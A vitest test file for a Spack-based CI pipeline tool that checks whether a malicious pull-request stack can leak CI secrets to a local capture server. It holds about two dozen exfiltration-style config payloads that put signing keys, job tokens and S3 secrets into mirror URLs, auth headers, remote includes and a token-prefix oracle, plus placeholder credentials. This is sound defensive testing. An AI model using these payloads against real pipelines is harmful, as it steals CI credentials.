import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { createKey, formatSigningKey } from '@stackwright/buildcache';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { call } from './call.js';

const quickstart = fileURLToPath(new URL('../../../stacks/quickstart', import.meta.url));
const folder = mkdtempSync(join(tmpdir(), 'pull-request-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** Takes whatever comes, keeps it, and answers that there is nothing. */
let server: Server;
let port: number;
let arrived = '';
beforeAll(async () => {
  server = createServer((socket) => {
    socket.on('error', () => {});
    socket.on('data', (bytes) => {
      arrived += bytes.toString('latin1');
      socket.end('HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n');
    });
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  port = (server.address() as AddressInfo).port;
});
afterAll(() => server.close());

const token = 'glcbt-0123456789abcdefghij';
const secrets: Record<string, string> = {
  CI_JOB_TOKEN: token,
  AWS_SECRET_ACCESS_KEY: 'wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY',
  AWS_SESSION_TOKEN: 'FwoGZXIvYXdzEXAMPLESESSION',
  CDASH_AUTH_TOKEN: 'cdash-0123456789',
  // Names that tell nothing.
  HOUSE_OF_CARDS: 'ghp_0123456789abcdefghijklmnopqrstuvwxyz',
  PROXY_OF_OURS: 'http://me:hidden-password@proxy.invalid',
};
beforeAll(async () => {
  secrets.SPACK_SIGNING_KEY = formatSigningKey(await createKey({ name: 'Release' }));
  secrets.COPY_OF_IT = secrets.SPACK_SIGNING_KEY;
});
/** What must be found nowhere, in the forms in which it could travel. */
function traces(): string[] {
  const values = [...Object.values(secrets), 'hidden-password'];
  return values
    .flatMap((value) => [
      value,
      Buffer.from(value).toString('base64').slice(0, -4),
      encodeURIComponent(value),
    ])
    .map((text) => text.trim().slice(0, 60));
}

const pullRequests = {
  GitHub: { GITHUB_EVENT_NAME: 'pull_request' },
  GitLab: { CI_MERGE_REQUEST_IID: '7', CI_PIPELINE_SOURCE: 'merge_request_event' },
};

interface Way {
  readonly name: string;
  /** Sections of `spack.yaml`. */
  readonly spack: (at: string) => Record<string, unknown>;
  /** The stack of a branch may do this. */
  readonly branchMay?: boolean;
}

const mirror = (place: unknown) => ({ mirrors: { 'buildcache-destination': place } });
const mapping = (at: string, header: string, more: object = {}) => ({
  ci: {
    'pipeline-gen': [
      {
        'dynamic-mapping': {
          endpoint: `http://${at}/ask`,
          header: { Authorization: header },
          timeout: 1,
          ...more,
        },
      },
    ],
  },
});
// Not a template string's own.
const braced = (name: string) => ['$', `{${name}}`].join('');

const ways: readonly Way[] = [
  {
    name: 'the signing key in the address of a mirror',
    spack: (at) => mirror({ url: `http://${at}/$SPACK_SIGNING_KEY` }),
  },
  {
    name: 'a secret of S3 in the address of a mirror',
    spack: (at) => mirror(`http://${at}/${braced('AWS_SECRET_ACCESS_KEY')}/x`),
  },
  {
    name: 'a token under a harmless name in an address',
    spack: (at) => mirror({ url: `http://${at}/$HOUSE_OF_CARDS` }),
  },
  {
    name: 'a copy of the key under a harmless name',
    spack: (at) => mirror({ url: `http://${at}/$COPY_OF_IT` }),
  },
  {
    name: 'the password of an address in an address',
    spack: (at) => mirror({ url: `http://${at}/$PROXY_OF_OURS` }),
  },
  {
    name: 'a token as the password of an address',
    spack: (at) => mirror({ fetch: `http://me:$CI_JOB_TOKEN@${at}/x`, push: '/x' }),
  },
  {
    name: 'the signing key as token',
    spack: (at) => mirror({ url: `http://${at}/`, access_token_variable: 'SPACK_SIGNING_KEY' }),
  },
  {
    name: 'a copy of the signing key as token',
    spack: (at) => mirror({ url: `http://${at}/`, access_token_variable: 'COPY_OF_IT' }),
  },
  {
    name: 'a secret of S3 as token',
    spack: (at) => mirror({ url: `http://${at}/`, access_token_variable: 'AWS_SECRET_ACCESS_KEY' }),
  },
  {
    name: "the job's token as token",
    branchMay: true,
    spack: (at) => mirror({ url: `http://${at}/`, access_token_variable: 'CI_JOB_TOKEN' }),
  },
  {
    name: 'the signing key as user of S3',
    spack: (at) =>
      mirror({
        url: 's3://b/x',
        endpoint_url: `http://${at}`,
        access_pair: { id_variable: 'SPACK_SIGNING_KEY', secret_variable: 'CI_JOB_TOKEN' },
      }),
  },
  {
    name: "the job's token as user of S3",
    branchMay: true,
    spack: (at) =>
      mirror({
        url: 's3://b/x',
        endpoint_url: `http://${at}`,
        access_pair: { id_variable: 'CI_JOB_TOKEN', secret_variable: 'AWS_SECRET_ACCESS_KEY' },
      }),
  },
  {
    name: "the environment's session at another S3",
    branchMay: true,
    spack: (at) => mirror({ url: 's3://b/x', endpoint_url: `http://${at}` }),
  },
  {
    name: 'the password of a registry',
    branchMay: true,
    spack: (at) =>
      mirror({
        url: `oci+http://${at}/r`,
        signed: false,
        access_pair: { id: 'me', secret_variable: 'CI_JOB_TOKEN' },
      }),
  },
  {
    name: 'the signing key in a header of a dynamic mapping',
    spack: (at) => mapping(at, `Bearer ${braced('SPACK_SIGNING_KEY')}`),
  },
  {
    name: 'a copy of the key in a header of a dynamic mapping',
    spack: (at) => mapping(at, 'Bearer $COPY_OF_IT'),
  },
  {
    name: "the job's token in a header of a dynamic mapping",
    branchMay: true,
    spack: (at) => mapping(at, 'Bearer $CI_JOB_TOKEN'),
  },
  {
    name: 'the signing key in the endpoint of a dynamic mapping',
    spack: (at) => mapping(at, 'none', { endpoint: `http://${at}/$SPACK_SIGNING_KEY` }),
  },
  {
    name: "CDash's token to a CDash of the stack's choice",
    branchMay: true,
    spack: (at) => ({ cdash: { url: `http://${at}`, project: 'p', 'build-group': 'g' } }),
  },
  {
    name: 'a secret in an include by URL',
    spack: (at) => ({ include: [{ path: `http://${at}/$SPACK_SIGNING_KEY`, sha256: '0'.repeat(64) }] }),
  },
  {
    name: 'a secret in an include by git',
    spack: (at) => ({
      include: [{ git: `http://${at}/$CI_JOB_TOKEN.git`, branch: 'main', paths: ['x.yaml'] }],
    }),
  },
  {
    name: 'an include whose path a secret variable gives',
    spack: () => ({ include: [{ path: './x.yaml', path_override_env_var: 'COPY_OF_IT' }] }),
  },
  {
    name: 'a request that depends on how a secret starts',
    spack: (at) => ({
      include: [
        {
          path: `http://${at}/oracle-says-yes`,
          when: "env.get('CI_JOB_TOKEN', '').startswith('glcbt')",
          sha256: '0'.repeat(64),
        },
      ],
    }),
  },
  {
    name: 'a secret in a path that goes into the pipeline',
    spack: () => ({
      config: { install_tree: { root: '/opt/$CI_JOB_TOKEN' } },
      repos: ['/r/$HOUSE_OF_CARDS'],
    }),
  },
  {
    name: 'a secret in the variables of jobs',
    spack: () => ({
      ci: {
        'pipeline-gen': [
          { 'any-job': { variables: { X: '$SPACK_SIGNING_KEY', Y: braced('CI_JOB_TOKEN') } } },
        ],
      },
    }),
  },
  {
    name: 'a secret in the list of broken specs',
    spack: (at) => ({ ci: { 'broken-specs-url': `http://${at}/$CI_JOB_TOKEN`, 'pipeline-gen': [] } }),
  },
];

describe('a stack that is after secrets', () => {
  let stack: string;
  let home: string;
  beforeEach(() => {
    home = mkdtempSync(join(folder, 'home-'));
    stack = join(home, 'stack');
    cpSync(quickstart, stack, { recursive: true });
    arrived = '';
  });
  afterEach(() => rmSync(home, { recursive: true, force: true }));

  /** Runs all commands that read or contact something, in an environment full of secrets. */
  async function tryIt(way: Way, event: NodeJS.ProcessEnv, allow: readonly string[] = []) {
    const usual = {
      specs: ['quickstart-suite', 'hello-static'],
      ...mirror({ url: './mirror' }),
      ci: { 'pipeline-gen': [{ 'build-job': { image: 'x', script: ['true'] } }] },
    };
    writeFileSync(
      join(stack, 'spack.yaml'),
      stringify({ spack: { ...usual, ...way.spack(`127.0.0.1:${port}`) } }),
    );
    const env = { PATH: '/usr/bin:/bin', HOME: home, AWS_ACCESS_KEY_ID: 'AKIAPUBLIC', ...secrets, ...event };
    const allowed = allow.flatMap((one) => ['--allow-variable', one]);
    const commands = [
      ['check', stack],
      ['specs', stack],
      ['upgrade', stack],
      ['simulate', stack],
      ['graph', stack],
      ['generate', stack, '--no-prune-dag', ...allowed],
      ['generate', stack, '--target', 'slurm', '--output-file', 's.sh', ...allowed],
      ['doctor', stack, ...allowed],
    ];
    let said = '';
    let after = '';
    for (const args of commands) {
      const { stdout, stderr } = await call(args, { env, cwd: home });
      said += `$ ${args[0]}\n${stdout}${stderr}`;
      if (args[0] === 'graph') after = arrived;
    }
    const texts = readdirSync(home, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile() && !entry.parentPath.startsWith(join(stack, 'mirror')))
      .map((entry) => readFileSync(join(entry.parentPath, entry.name), 'latin1'));
    return { said, contactedBefore: after, places: { arrived, said, written: texts.join('\n') } };
  }

  const found = (places: Record<string, string>) =>
    Object.entries(places).flatMap(([place, text]) =>
      traces()
        .filter((trace) => text.includes(trace))
        .map((trace) => `${place}: ${trace}`),
    );

  describe.each(Object.entries(pullRequests))(
    'in a pull request at %s, gets nowhere with',
    (_forge, event) => {
      it.each(ways)(
        '$name',
        async (way) => {
          const { places, contactedBefore } = await tryIt(way, event);
          expect(found(places)).toEqual([]);
          expect(arrived).not.toMatch(/oracle-says-yes/);
          expect(contactedBefore).toBe('');
        },
        60_000,
      );
    },
  );

  describe('on a branch, gets nowhere with', () => {
    it.each(ways.filter(({ branchMay }) => !branchMay))(
      '$name',
      async (way) => {
        expect(found((await tryIt(way, {})).places)).toEqual([]);
      },
      60_000,
    );
  });

  const asToken = ways.find(({ name }) => name === "the job's token as token") as Way;

  it("may send a token that it names, in a pull request only with the user's leave", async () => {
    const { said } = await tryIt(asToken, pullRequests.GitHub);
    expect(said).toContain(
      `CI_JOB_TOKEN is not sent to 127.0.0.1:${port}: the stack of a pull request asks for it.`,
    );
    expect(said).toContain(`--allow-variable CI_JOB_TOKEN=127.0.0.1:${port}`);
    await tryIt(asToken, pullRequests.GitHub, ['CI_JOB_TOKEN=127.0.0.1']);
    expect(arrived).toContain(`Bearer ${token}`);
    arrived = '';
    await tryIt(asToken, {});
    expect(arrived).toContain(`Bearer ${token}`);
  }, 60_000);

  it('gets no token over an open network, on a branch either', async () => {
    const way = {
      ...asToken,
      spack: () => mirror({ url: 'http://open.invalid/', access_token_variable: 'CI_JOB_TOKEN' }),
    };
    const { said } = await tryIt(way, {});
    expect(said).toContain('CI_JOB_TOKEN is not sent to open.invalid: others could read it on the way.');
  }, 60_000);
});
